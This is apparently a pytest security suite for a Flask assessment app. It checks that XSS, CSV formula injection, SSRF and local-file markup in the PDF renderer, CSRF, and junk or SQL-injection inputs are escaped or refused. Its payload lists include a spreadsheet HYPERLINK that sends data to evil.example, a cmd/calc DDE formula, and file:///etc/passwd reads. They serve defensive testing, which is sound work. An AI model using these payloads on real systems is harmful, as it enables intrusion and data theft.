"""Every attack class in one place, each proved against the whole app rather than one page.

Covered here:
- XSS (script, attribute break-out, ``javascript:``, ``{{7*7}}``, ``</textarea>``) in every
  text question and contact field, and in a staff name: escaped in the buyer's pages, the
  sales pages, the access log, the PDF (literal text, no scripts or actions) and the CSV.
- CSV formula injection: cells starting with = + - @ tab CR in company, name and email.
- SSRF and local files through the PDF renderer, with more ways in than test_report.py's.
- CSRF: a missing or wrong token is a 400 on every POST route of the URL map; nothing changes.
- Other assessments' tokens and ids are 404 on every route; a buyer cannot reach /sales.
- Oversized bodies are 413 on the start form, a step and the sales sign-in.
- Junk (NUL and other control characters, broken UTF-8, quotes, very long values) in every
  query parameter and form field: never a 5xx, on SQLite and PostgreSQL; nothing stored
  keeps a control character.
- Security headers on every response: each GET route, errors (400/404/405/413/500/503),
  redirects, downloads and static files.

Proved elsewhere, exactly as this list asks, and not repeated:
- Sales routes without a session redirect to sign-in: tests/web/test_sales.py::
  test_every_sales_route_redirects_to_sign_in_without_a_session (walks the URL map).
- The session is renewed on sign-in (planted keys dropped, new CSRF token): tests/web/
  test_sales.py::test_sign_in_starts_a_fresh_session_with_a_new_csrf_token. (Flask's session
  is a signed cookie with no server-side id: renewing its content is the rotation.)
- Escaped hostile answers and company fetch nothing and attach nothing in the PDF:
  tests/reports/test_report.py::test_hostile_answers_print_as_text_fetch_nothing_and_attach_nothing
  and test_raw_markup_that_slipped_past_escaping_still_fetches_nothing (extended below).
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from types import SimpleNamespace

import pytest
from markupsafe import escape
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject
from sqlalchemy import func, select

from questionnaire import services
from questionnaire.core.scoring import score, visible_answers
from questionnaire.core.text import CONTROL_CHARACTERS
from questionnaire.store import apitokens, resume_links
from questionnaire.store import operations as ops
from questionnaire.store.db import db
from questionnaire.store.models import (
    AccessEvent,
    ApiToken,
    Assessment,
    LibraryChange,
    LibraryJob,
    LoginAttempt,
    ReadOnlyLink,
    SentMail,
    User,
    hash_token,
)
from questionnaire.web import lost_link
from questionnaire.web.export import FORMULA_STARTS
from tests.conftest import Buyer
from tests.support import (
    CSRF_FIELD,
    FAST,
    PASSWORD,
    Listener,
    add_user,
    assessment_id,
    embedded_files,
    fetch,
    page,
    redirects_to_sign_in,
    sign_in,
    squash,
    text_of,
)

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "</textarea><script>alert(2)</script>",
)


def hostile(label: str) -> str:
    return f"{label} " + " ".join(PAYLOADS)


COMPANY = hostile("Company")
NAME = hostile("Name") + ', "quoted", and, commas'
STAFF = hostile("Staff")
# The worst the email validator lets through: braces, quote, equals, ampersand.
EMAIL = "{{7*7}}'onmouseover=alert&x@example.com"


# --- XSS ----------------------------------------------------------------------------------


def text_answers(bank) -> dict[str, str]:
    return {q.id: hostile(q.id) for q in bank.questions if q.type == "text"}


@pytest.fixture
def attacked(make_app, bank, example):
    """A buyer who typed payloads into every text question and contact field, and a staff
    member with a payload for a name who opened the assessment; the pages they all see."""
    app = make_app(REPORT_WAIT_SECONDS=60, **FAST)  # the PDF download waits for its render
    add_user(app, "ada@provider.example", "admin", STAFF)
    staff = app.test_client()
    assert sign_in(staff, "ada@provider.example").status_code == 302
    buyer = Buyer(app.test_client())
    token = buyer.start(company=COMPANY, name=NAME, email=EMAIL)
    texts = text_answers(bank)
    answers = {**example["answers"], **texts}
    buyer.answer_all(bank, answers, example["must_have"])
    assert set(texts) <= set(visible_answers(bank, answers))  # every text question shown
    pages = {
        f"step {s.id}": page(buyer.client.get(buyer.url(f"/step/{s.id}"))) for s in bank.sections
    }
    pages["check"] = page(buyer.client.get(buyer.url("/check")))
    pages["delete"] = page(buyer.client.get(buyer.url("/delete")))
    assert buyer.submit().status_code == 302
    number = assessment_id(app, token)
    pages["sales assessment"] = page(staff.get(f"/sales/assessments/{number}"))
    pages["result"] = page(buyer.client.get(buyer.url("/result")))
    pages["sales list"] = page(staff.get("/sales/"))
    pages["sales search"] = page(staff.get("/sales/", query_string={"q": COMPANY}))
    pages["access log"] = page(staff.get("/sales/admin/access-log"))
    pages["admin"] = page(staff.get("/sales/admin/"))
    return SimpleNamespace(
        app=app, token=token, number=number, texts=texts, pages=pages, staff=staff, buyer=buyer
    )


def assert_escaped(html: str, value: str, where: str) -> None:
    assert str(escape(value)) in html, f"{where}: {value[:30]!r}… is not shown (escaped)"
    for payload in PAYLOADS:
        if str(escape(payload)) != payload:
            assert payload not in html, f"{where}: {payload!r} came out raw"


class MarkupFinder(HTMLParser):
    """Parses a page as a browser would and notes anything that could run script."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.found.append(f"<script> without our src: {values}")
        if tag in ("img", "iframe", "object", "embed", "base"):  # the pages have none
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value}>")


def assert_no_injected_markup(html: str, where: str) -> None:
    finder = MarkupFinder()
    finder.feed(html)
    finder.close()
    assert finder.found == [], where


def test_xss_payloads_come_out_escaped_in_every_page(attacked):
    texts = list(attacked.texts.values())
    expected = {
        "check": texts,
        "delete": [COMPANY],
        "result": [COMPANY, *texts, STAFF],  # STAFF: "who has accessed your answers"
        "sales assessment": [COMPANY, NAME, EMAIL, *texts],
        "sales list": [COMPANY, NAME, EMAIL],
        "sales search": [COMPANY, NAME, EMAIL],
        "access log": [COMPANY, STAFF],
        "admin": [STAFF],
    }
    for qid, text in attacked.texts.items():
        section = next(name for name, html in attacked.pages.items() if f'name="{qid}"' in html)
        expected[section] = [*expected.get(section, []), text]
    for where, html in attacked.pages.items():
        assert_no_injected_markup(html, where)
        for value in expected.get(where, []):
            assert_escaped(html, value, where)
    mailto = 'href="mailto:%7B%7B7%2A7%7D%7D%27onmouseover%3Dalert%26x@example.com"'
    assert mailto in attacked.pages["sales assessment"]  # encoded: it cannot end the attribute


PDF_ACTION_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/SubmitForm"}


def pdf_actions(pdf: bytes) -> list[str]:
    """Every script, automatic action or non-web link anywhere in the PDF's objects."""
    reader = PdfReader(BytesIO(pdf))
    found: list[str] = []
    seen: set[int] = set()

    def walk(node) -> None:
        if isinstance(node, IndirectObject):
            if node.idnum in seen:
                return
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            for key, value in node.items():
                if key in PDF_ACTION_KEYS:
                    found.append(key)
                if key == "/URI" and not str(value).startswith(("http://", "https://")):
                    found.append(f"/URI {value}")
                walk(value)
        elif isinstance(node, ArrayObject):
            for item in node:
                walk(item)

    walk(reader.trailer)
    return found


def test_xss_payloads_print_as_plain_text_in_the_pdf_which_has_no_scripts_or_actions(attacked):
    response = fetch(attacked.buyer.client, attacked.buyer.url("/report.pdf"))
    assert response.status_code == 200
    pdf = response.get_data()
    printed = squash(text_of(pdf))  # long runs wrap anywhere: compare without whitespace
    for value in [COMPANY, NAME, *attacked.texts.values()]:
        assert squash(value) in printed, value[:30]
    assert pdf_actions(pdf) == []
    assert embedded_files(pdf) == []


def test_xss_payloads_are_plain_quoted_cells_in_the_csv(attacked):
    response = attacked.staff.get("/sales/export.csv")
    rows = list(csv.DictReader(io.StringIO(page(response).removeprefix("\ufeff"))))
    assert len(rows) == 1
    assert rows[0]["Company"] == COMPANY
    assert rows[0]["Contact name"] == NAME  # quotes and commas stay inside their cell
    assert rows[0]["Email"] == EMAIL
    assert rows[0]["Link"].endswith(f"/sales/assessments/{attacked.number}")


# --- CSV formula injection ----------------------------------------------------------------


@pytest.fixture
def sales(make_app):
    app = make_app(**FAST)
    add_user(app, "sam@provider.example", "sales", "Sam")
    client = app.test_client()
    assert sign_in(client, "sam@provider.example").status_code == 302
    return app, client


def exported(client) -> list[dict]:
    text = page(client.get("/sales/export.csv?status=draft"))
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_formulas_typed_into_the_start_form_are_neutralised_in_the_csv(sales):
    app, client = sales
    buyer = Buyer(app.test_client())
    buyer.start(
        company='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        name="+cmd|' /C calc'!A0",
        email="-2+3@example.com",
    )
    other = Buyer(app.test_client())
    other.start(company="@SUM(1+1)*cmd|' /C calc'!A0", name="Plain", email="=1+1@example.com")
    rows = {row["Contact name"]: row for row in exported(client)}
    first = rows["'+cmd|' /C calc'!A0"]
    assert first["Company"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert first["Email"] == "'-2+3@example.com"
    assert rows["Plain"]["Company"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["Plain"]["Email"] == "'=1+1@example.com"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_every_formula_start_is_neutralised_in_company_name_and_email(sales, start):
    """Set straight in the table: the form strips tabs and CRs and refuses such addresses,
    and the export must not rely on either."""
    app, client = sales
    Buyer(app.test_client()).start()
    values = {
        "company": f"{start}SUM(A1:A9)",
        "contact_name": f"{start}1+1",
        "email": f"{start}x@example.com",
    }
    with app.app_context():
        row = db.session.scalar(select(Assessment))
        for column, value in values.items():
            setattr(row, column, value)
        db.session.commit()
    [line] = exported(client)
    assert line["Company"] == "'" + values["company"]
    assert line["Contact name"] == "'" + values["contact_name"]
    assert line["Email"] == "'" + values["email"]
    for cell in line.values():
        assert not cell.startswith(FORMULA_STARTS)


# --- SSRF and local files through the PDF renderer ---------------------------------------


def ways_in(port: int, secret: Path, static: Path) -> list[str]:
    """Markup that would make a renderer fetch from the network or read a local file."""
    back_out = static.as_posix() + "/.." * len(static.parts) + secret.as_posix()
    return [
        f'<img src="http://127.0.0.1:{port}/img">',
        f'<iframe src="http://127.0.0.1:{port}/iframe"></iframe>',
        f'<object data="http://127.0.0.1:{port}/object"></object>',
        f'<embed src="http://127.0.0.1:{port}/embed">',
        f'<svg><image href="http://127.0.0.1:{port}/svg-image"/></svg>',
        f'<base href="http://127.0.0.1:{port}/base/"><img src="relative.png">',
        f"<style>@font-face {{ font-family: x; src: url(http://127.0.0.1:{port}/font) }}"
        " p { font-family: x }</style>",
        f'<link rel="stylesheet" href="{secret.as_uri()}">',
        f'<link rel="attachment" href="{secret.as_uri()}">',
        f'<img src="file://localhost{secret.as_posix()}">',
        f'<img src="file://{back_out}">',
        '<img src="file:///proc/self/environ">',
        '<svg><use href="file:///etc/passwd#x"/></svg>',
    ]


def test_hostile_markup_in_every_field_fetches_and_embeds_nothing(
    make_app, bank, example, tmp_path
):
    app = make_app(REPORT_WAIT_SECONDS=60)
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-5b8e21")
    with Listener() as listener:
        markup = ways_in(listener.port, secret, Path(app.static_folder))
        buyer = Buyer(app.test_client())
        buyer.start(company=markup[0], name=markup[1], email="x@example.com")
        # Each text question takes as many as its length limit allows, all of them in turn.
        texts = {q.id: "\n".join(markup[2:]) for q in bank.questions if q.type == "text"}
        buyer.answer_all(bank, {**example["answers"], **texts}, example["must_have"])
        assert buyer.submit().status_code == 302
        response = fetch(buyer.client, buyer.url("/report.pdf"))
        assert response.status_code == 200
        pdf = response.get_data()
    assert listener.requests == []
    assert embedded_files(pdf) == [] and pdf_actions(pdf) == []
    printed = squash(text_of(pdf))
    assert "SECRET-5b8e21" not in printed and "root:x:0:0" not in printed
    for literal in markup:
        assert squash(literal) in printed


def test_raw_markup_in_the_renderer_fetches_nothing_whatever_the_element(make_app, tmp_path):
    """Defence in depth, should markup ever reach the renderer unescaped."""
    service = services.reports(make_app())
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-5b8e21")
    with Listener() as listener:
        markup = ways_in(listener.port, secret, Path(service.app.static_folder))
        html = (
            "<!doctype html><html lang=en><head><title>t</title></head><body><p>x</p>"
            + "".join(markup)
            + '<a href="javascript:alert(1)">link</a></body></html>'
        )
        rendered = service.pool.render(html, timeout=20)
    assert listener.requests == []
    assert embedded_files(rendered.pdf) == [] and b"SECRET-5b8e21" not in rendered.pdf
    assert pdf_actions(rendered.pdf) == []
    refused = " ".join(rendered.refused)
    for what in ("/img", "/svg-image", "/font", "secret.txt", "/proc/self/environ"):
        assert what in refused, what


# --- CSRF ---------------------------------------------------------------------------------


def database_state(app) -> dict:
    with app.app_context():
        assessments = select(
            Assessment.id,
            Assessment.status,
            Assessment.answers,
            Assessment.must_have,
            Assessment.progress,
            Assessment.row_version,
        ).order_by(Assessment.id)
        users = select(
            User.id, User.active, User.password_hash, User.session_version, User.role
        ).order_by(User.id)
        tokens = select(ApiToken.name, ApiToken.revoked_at).order_by(ApiToken.id)
        return {
            "assessments": [tuple(r) for r in db.session.execute(assessments)],
            "users": [tuple(r) for r in db.session.execute(users)],
            "events": db.session.scalar(select(func.count(AccessEvent.id))),
            "attempts": db.session.scalar(select(func.count(LoginAttempt.id))),
            "links": db.session.scalar(select(func.count(ReadOnlyLink.id))),
            "mails": db.session.scalar(select(func.count(SentMail.id))),
            "tokens": [tuple(r) for r in db.session.execute(tokens)],
            "library": db.session.scalar(select(func.count(LibraryChange.id))),
            "jobs": db.session.scalar(select(func.count(LibraryJob.id))),
        }


def new_link_value(app, assessment_id: int) -> str:
    """The signed value of a "make a new link" address for the assessment, as e-mailed."""
    with app.test_request_context():
        return lost_link.sign(resume_links.one(assessment_id))


def post_routes(app) -> dict[str, str]:
    """Endpoint -> URL of every rule that takes a POST."""
    return {rule.endpoint: rule.rule for rule in app.url_map.iter_rules() if "POST" in rule.methods}


def test_every_post_route_refuses_a_missing_or_wrong_csrf_token_and_changes_nothing(
    make_app, bank, example
):
    app = make_app(WTF_CSRF_ENABLED=True, **FAST)
    add_user(app, "ada@provider.example", "admin", "Ada")
    colleague = add_user(app, "sam@provider.example", "sales", "Sam")
    client = app.test_client()  # an admin who is also filling in an assessment
    assert sign_in(client, "ada@provider.example").status_code == 302
    with app.app_context():
        app.config["WTF_CSRF_ENABLED"] = False  # set up the draft without tokens
        buyer = Buyer(client)
        token = buyer.start()
        buyer.answer_all(bank, example["answers"], example["must_have"])
        # Another buyer's draft, for the "make a new link" address their e-mail held.
        lost = assessment_id(app, Buyer(app.test_client()).start(company="Lost Ltd"))
        app.config["WTF_CSRF_ENABLED"] = True
    good = CSRF_FIELD.search(page(client.get("/sales/"))).group(1)
    stranger = app.test_client()
    theirs = CSRF_FIELD.search(page(stranger.get("/"))).group(1)  # valid, for another session
    number = assessment_id(app, token)
    asked = next(
        f.id
        for f in score(bank, example["answers"], example["must_have"]).follow_ups
        if f.status == "ask_provider" and bank.question(f.id).type == "yesno"
    )
    with app.app_context(), services.unit_of_work() as uow:
        apitokens.create("Kept")
        uow.commit()
        kept_token = db.session.scalar(select(ApiToken.id))
    args = {
        "token": token,
        "section_id": "security",
        "user_id": colleague,
        "assessment_id": number,
        "question_id": asked,
        "token_id": kept_token,
        "answer_id": 1,  # the library answer the sales.library.new below makes
        "job_id": 1,  # and the job sales.library.apply starts
        "signed": new_link_value(app, lost),
    }
    library_answer = {"value": "yes", "statement": "We do.", "reference": "", "grade": "written"}
    forms = {
        "sales.admin.create_token": {"name": "Probe", "scope": "read"},
        "wizard.start": {"company": "New", "name": "N", "email": "n@x.example", "consent": "y"},
        "wizard.step": {
            **buyer.section_data(bank, "security", example["answers"]),
            "action": "next",
        },
        "sales.auth.login": {"email": "ada@provider.example", "password": PASSWORD},
        "sales.admin.create_user": {"email": "eve@x.example", "name": "Eve", "role": "admin"},
        "sales.auth.change_password": {
            "current": PASSWORD,
            "new": "another-long-password",
            "confirm": "another-long-password",
        },
        "sales.followup.owner_and_stage": {"owner": "", "stage": "won"},
        "sales.followup.add_note": {"note": "Call them on Monday"},
        "sales.followup.written_answer": {"value": "yes", "statement": "We do."},
        "sales.library.new": {"question": asked, **library_answer},
        "sales.library.edit": {"number": "1", **library_answer},
        "sales.library.retire": {"number": "2"},
    }
    # The API takes no cookie, only a bearer token, so it has no CSRF token to check:
    # tests/web/test_api.py proves a signed-in session alone gets 401 there.
    routes = {e: r for e, r in post_routes(app).items() if not r.startswith("/api/")}
    assert set(routes) == {
        "wizard.start",
        "wizard.step",
        "wizard.submit",
        "wizard.delete",
        "sharing.revise",
        "sharing.create_link",
        "sharing.revoke_link",
        "emails.email_link",
        "lost_link.ask",
        "lost_link.confirm",
        "sales.auth.login",
        "sales.auth.logout",
        "sales.auth.change_password",
        "sales.admin.create_user",
        "sales.admin.disable_user",
        "sales.admin.enable_user",
        "sales.admin.reset_password",
        "sales.admin.create_token",
        "sales.admin.revoke_token",
        "sales.followup.owner_and_stage",
        "sales.followup.add_note",
        "sales.followup.written_answer",
        "sales.library.new",
        "sales.library.edit",
        "sales.library.retire",
        "sales.library.apply",
        "sales.library.confirm",
    }, "a new POST route: add it to the expected outcomes below"
    before = database_state(app)
    for endpoint, takes in routes.items():
        with app.test_request_context():
            url = app.url_for(endpoint, **{k: v for k, v in args.items() if k in takes})
        for csrf in (None, "not-a-token", theirs):
            data = dict(forms.get(endpoint, {}))
            if csrf is not None:
                data["csrf_token"] = csrf
            response = client.post(url, data=data)
            assert response.status_code == 400, (endpoint, csrf, response.status_code)
    assert database_state(app) == before
    assert client.get("/sales/").status_code == 200  # still signed in: logout was refused too

    # The same requests with the session's token go through: the token was the only thing
    # wrong. (Ordered so that each finds what it needs: submit before delete, logout last.)
    expected = {
        "wizard.step": 302,
        "wizard.start": 302,
        "sales.admin.create_user": 200,
        "sales.admin.disable_user": 302,
        "sales.admin.enable_user": 302,
        "sales.admin.reset_password": 200,
        "sales.admin.create_token": 200,
        "sales.admin.revoke_token": 302,
        "sales.auth.login": 302,
        "wizard.submit": 302,
        "sharing.create_link": 302,
        "sharing.revoke_link": 302,
        "sharing.revise": 302,
        "emails.email_link": 404,  # e-mail is off in this app
        "lost_link.ask": 404,  # so is asking for a new link
        "lost_link.confirm": 303,  # the new link, made from the e-mailed address
        "sales.followup.owner_and_stage": 302,
        "sales.followup.add_note": 302,
        "sales.followup.written_answer": 302,
        "sales.library.new": 302,
        "sales.library.edit": 302,
        "sales.library.apply": 302,
        "sales.library.confirm": 409,  # the preview is not made yet (no background here)
        "sales.library.retire": 302,
        "wizard.delete": 302,
        "sales.auth.change_password": 302,
        "sales.auth.logout": 302,
    }
    for endpoint, status in expected.items():
        with app.test_request_context():
            url = app.url_for(endpoint, **{k: v for k, v in args.items() if k in routes[endpoint]})
        response = client.post(url, data={**forms.get(endpoint, {}), "csrf_token": good})
        assert response.status_code == status, (endpoint, response.status_code)
        if endpoint == "sales.auth.change_password":  # on to a fresh session, with a new token
            assert response.location.endswith("/sales/")
            good = CSRF_FIELD.search(page(client.get("/sales/"))).group(1)
    assert database_state(app) != before


# --- junk in every parameter --------------------------------------------------------------

JUNK = (
    "\x00",
    "a\x00b",
    "\x0b\x0c\x1b\x7f",
    "%ff%fe",
    "' OR 1=1 --",
    "\u202e" + "x" * 3000,
    "9" * 25,  # past any database integer
    "-1",
    "1e999999999",
)
QUERY_PARAMETERS = (
    "return new next status sort deal_breakers date_from date_to page q rating bank_version"
    " assessment v owner stage who action per_page state library show use question retired"
).split()


def test_junk_in_every_query_parameter_and_form_field_is_never_a_server_error(
    make_app, bank, example
):
    """PostgreSQL refuses NUL in text, so a NUL that reached a query was a 500 there."""
    app = make_app(**FAST)
    add_user(app, "ada@provider.example", "admin", "Ada")
    client = app.test_client()  # an admin who is also filling in an assessment
    assert sign_in(client, "ada@provider.example").status_code == 302
    buyer = Buyer(client)
    token = buyer.start()
    buyer.answer_all(bank, example["answers"], example["must_have"])
    number = assessment_id(app, token)
    args = {
        "token": token,
        "section_id": "security",
        "assessment_id": number,
        "user_id": 1,
        "token_id": 1,
        "question_id": bank.questions[0].id,
        "answer_id": 1,  # no library answer or job: their pages are 404s
        "job_id": 1,
        "signed": new_link_value(app, number),
    }
    checked = 0
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        with app.test_request_context():
            url = app.url_for(rule.endpoint, **{k: args[k] for k in rule.arguments})
        for junk in JUNK:
            query = "&".join(f"{name}={junk}" for name in QUERY_PARAMETERS)
            response = fetch(client, f"{url}?{query}")
            assert response.status_code < 500, (rule.endpoint, junk, response.status_code)
            checked += 1
    assert checked >= 15 * len(JUNK)

    notes = next(q.id for q in bank.questions if q.type == "text")
    section = bank.question(notes).section_id
    step = buyer.section_data(bank, section, example["answers"], example["must_have"])
    forms = {
        "/": {"company": "Acme", "name": "Ann", "email": "ann@acme.example", "consent": "y"},
        buyer.url(f"/step/{section}"): {**step, notes: "fine", "action": "save"},
        "/sales/login": {"email": "ada@provider.example", "password": "wrong"},
        "/sales/admin/users": {"email": "eve@x.example", "name": "Eve", "role": "sales"},
        "/sales/account/password": {"current": "wrong", "new": "x" * 12, "confirm": "x" * 12},
    }
    signed_out = app.test_client()  # signed in, the sign-in page just redirects
    for url, form in forms.items():
        poster = signed_out if url == "/sales/login" else client
        for field in form:
            for junk in JUNK:
                response = poster.post(url, data={**form, field: junk})
                assert response.status_code < 500, (url, field, junk, response.status_code)

    with app.app_context():
        stored = db.session.execute(
            select(Assessment.company, Assessment.contact_name, Assessment.answers)
        ).all()
    for company, name, answers in stored:
        texts = [company, name, *(v for v in answers.values() if isinstance(v, str))]
        assert not any(CONTROL_CHARACTERS.search(t) for t in texts), texts
    assert ("a b", "Ann") in {(company, name) for company, name, _ in stored}  # NUL cleaned


# --- other people's tokens and ids --------------------------------------------------------


def test_tokens_and_ids_that_are_not_yours_are_404_on_every_route(app, bank, example):
    admin_client = app.test_client()
    add_user(app, "ada@provider.example", "admin", "Ada")
    assert sign_in(admin_client, "ada@provider.example").status_code == 302
    mine = Buyer(app.test_client())
    token = mine.start()
    mine.answer_all(bank, example["answers"])
    assert mine.submit().status_code == 302
    number = assessment_id(app, token)
    gone = Buyer(app.test_client())
    gone_token = gone.start(company="Gone Ltd")
    assert gone.client.post(gone.url("/delete")).status_code == 302
    wrong = {
        "a guess": "A" * 32,
        "one character changed": token[:-1] + ("A" if token[-1] != "A" else "B"),
        "the assessment's id": str(number),
        "the stored hash of the token": hash_token(token),
        "too long": token * 4,
        "a deleted assessment's": gone_token,
    }
    intruder = app.test_client()
    checked = set()
    for rule in app.url_map.iter_rules():
        if "token" not in rule.arguments:
            continue
        for label, value in wrong.items():
            with app.test_request_context():
                url = app.url_for(rule.endpoint, token=value, section_id="security")
            for method in {"GET", "POST"} & rule.methods:
                response = fetch(intruder, url, method)
                assert response.status_code == 404, (rule.endpoint, label, method)
                checked.add(rule.endpoint)
    assert {"wizard.resume", "wizard.step", "wizard.result", "report.download"} <= checked
    assert "report.download" in checked and "wizard.answers_json" in checked

    with app.app_context(), services.unit_of_work() as uow:
        api_token = apitokens.create("Probe")
        uow.commit()
    for rule in app.url_map.iter_rules():
        ids = {"assessment_id", "user_id", "token_id", "answer_id", "job_id"} & rule.arguments
        if not ids:
            continue
        others = {"question_id": bank.questions[0].id} if "question_id" in rule.arguments else {}
        # The API is reached with its token (a session cookie alone is a 401 there).
        # (and with the JSON type it takes: another type is a 415 whatever the id).
        api = rule.rule.startswith("/api/")
        headers = (
            {"Authorization": f"Bearer {api_token}", "Content-Type": "application/json"}
            if api
            else {}
        )
        for bad in (999_999, 2**31, 10**25):  # no such row; past a database integer
            with app.test_request_context():
                url = app.url_for(rule.endpoint, **dict.fromkeys(ids, bad), **others)
            for method in {"GET", "POST"} & rule.methods:
                response = fetch(admin_client, url, method, headers=headers)
                assert response.status_code == 404, (rule.endpoint, bad, method)
    assert fetch(admin_client, f"/sales/assessments/{number}").status_code == 200  # control


def test_a_buyer_with_a_session_cannot_reach_any_sales_page(app, buyer, bank, example):
    token = buyer.start()
    buyer.answer_all(bank, example["answers"])
    buyer.submit()
    number = assessment_id(app, token)
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/sales") or rule.endpoint == "sales.auth.login":
            continue
        values = {k: number if k == "assessment_id" else 1 for k in rule.arguments}
        with app.test_request_context():
            url = app.url_for(rule.endpoint, **values)
        for method in {"GET", "POST"} & rule.methods:
            response = fetch(buyer.client, url, method)
            assert redirects_to_sign_in(response), (rule.endpoint, method, response.status_code)


# --- oversized bodies ---------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_oversized_bodies_are_refused_with_413_and_change_nothing(make_app, encoding):
    app = make_app(**FAST)
    add_user(app, "sam@provider.example", "sales", "Sam")
    buyer = Buyer(app.test_client())
    buyer.start()
    before = database_state(app)
    big = "x" * (app.config["MAX_CONTENT_LENGTH"] + 1)

    def body(fields: dict) -> dict:
        if encoding == "multipart":  # a file part forces multipart/form-data
            return {**fields, "attachment": (BytesIO(big.encode()), "big.txt")}
        return fields

    cases = {
        "/": {"company": big, "name": "N", "email": "n@x.example", "consent": "y"},
        buyer.url("/step/security"): {"security_notes": big, "action": "save"},
        "/sales/login": {"email": "sam@provider.example", "password": big},
    }
    for url, given in cases.items():
        fields = given
        if encoding == "multipart":
            fields = {k: v for k, v in given.items() if v is not big}
        response = buyer.client.post(url, data=body(fields))
        assert response.status_code == 413, (url, response.status_code)
        assert "That was too much data to send" in page(response)
    assert database_state(app) == before


# --- security headers ---------------------------------------------------------------------


def assert_security_headers(response, what) -> None:
    headers = response.headers
    csp = headers.get("Content-Security-Policy", "")
    for directive in ("default-src 'self'", "script-src 'self'", "frame-ancestors 'none'"):
        assert directive in csp, (what, csp)
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, what
    assert headers.get("Referrer-Policy") == "same-origin", what
    assert headers.get("X-Content-Type-Options") == "nosniff", what
    assert headers.get("X-Frame-Options") == "DENY", what


def test_security_headers_are_on_every_response(make_app, bank, example):
    app = make_app(PROPAGATE_EXCEPTIONS=False, REPORT_WAIT_SECONDS=20, **FAST)

    def boom():
        raise RuntimeError("an unexpected failure")

    def busy():
        raise ops.DatabaseBusy("database is locked")

    app.add_url_rule("/test-500", "test_500", boom)
    app.add_url_rule("/test-503", "test_503", busy)
    add_user(app, "ada@provider.example", "admin", "Ada")
    colleague = add_user(app, "sam@provider.example", "sales", "Sam")
    staff = app.test_client()
    assert sign_in(staff, "ada@provider.example").status_code == 302
    drafting = Buyer(app.test_client())
    draft = drafting.start()
    done = Buyer(app.test_client())
    submitted = done.start(company="Done Ltd")
    done.answer_all(bank, example["answers"])
    assert done.submit().status_code == 302
    number = assessment_id(app, submitted)
    statuses = set()

    def check(client, url, method="GET", **kwargs):
        response = fetch(client, url, method, **kwargs)
        assert_security_headers(response, (method, url, response.status_code))
        statuses.add(response.status_code)
        return response

    static = Path(app.static_folder)
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        if rule.endpoint == "static":
            for path in static.iterdir():
                check(app.test_client(), f"/static/{path.name}")
            continue
        for token, client in ((draft, drafting.client), (submitted, done.client)):
            values = {
                "token": token,
                "section_id": "security",
                "assessment_id": number,
                "user_id": colleague,
                "token_id": 1,
                "question_id": bank.questions[0].id,
                "answer_id": 1,  # no library answer or job: their pages are 404s
                "job_id": 1,
                "signed": new_link_value(app, number),
            }
            with app.test_request_context():
                url = app.url_for(rule.endpoint, **{k: values[k] for k in rule.arguments})
            check(staff if rule.rule.startswith("/sales") else client, url)
            check(app.test_client(), url)  # a stranger: redirects to sign-in, 404s
    check(done.client, done.url("/report.pdf"))  # the real PDF, drawn once
    check(app.test_client(), "/no/such/page")
    check(app.test_client(), "/sales/logout")  # GET on a POST-only route: 405
    check(drafting.client, drafting.url("/step/transparency"), "POST", data={"min_uptime": "x"})
    check(app.test_client(), "/", "POST", data={"company": "x" * 300_000})
    check(app.test_client(), "/test-500")
    check(app.test_client(), "/test-503")
    assert {200, 302, 400, 404, 405, 413, 500, 503} <= statuses, statuses
